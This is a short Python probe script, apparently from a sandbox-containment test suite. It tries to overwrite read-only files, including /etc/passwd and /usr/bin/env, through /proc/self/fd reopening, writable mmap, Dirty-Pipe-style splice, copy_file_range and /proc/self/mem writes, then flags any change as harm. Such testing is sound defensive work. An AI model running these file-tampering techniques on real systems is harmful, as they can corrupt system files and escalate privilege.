import ctypes, mmap, os
from probe import FACTS, attempt, contained, harm, libc, read

# Ways around a read-only file that have worked in some kernel: splice into its pages, /proc/self/mem, reopening.
targets = ("protected.txt", "/etc/passwd", FACTS["data"] + "/numbers.txt", "/usr/bin/env")
before = {path: read(path) for path in targets}
for path in targets:
    fd = os.open(path, os.O_RDONLY)
    attempt(f"reopened {path}", os.open, f"/proc/self/fd/{fd}", os.O_RDWR)
    attempt(f"mapped {path} for writing", mmap.mmap, fd, 4096 if "usr" in path else 0, prot=mmap.PROT_WRITE)
    reading, writing = os.pipe()
    os.write(writing, bytes(4096))
    os.read(reading, 4096)
    try:
        os.splice(fd, writing, 1, offset_src=1)
        os.write(writing, b"forged")
    except OSError:
        pass
    attempt("spliced into it", os.splice, reading, fd, 4, offset_dst=0)
    attempt("copied into it", os.copy_file_range, os.open("probe.py", os.O_RDONLY), fd, 4, offset_dst=0)
    shown = mmap.mmap(fd, 0, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ)
    libc.mmap.restype = ctypes.c_void_p
    address = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, fd, ctypes.c_long(0))
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
        os.pwrite(memory, b"forged", address)
    except OSError:
        pass
if any(read(path) != text for path, text in before.items()):
    harm("a read-only file was changed")
contained()
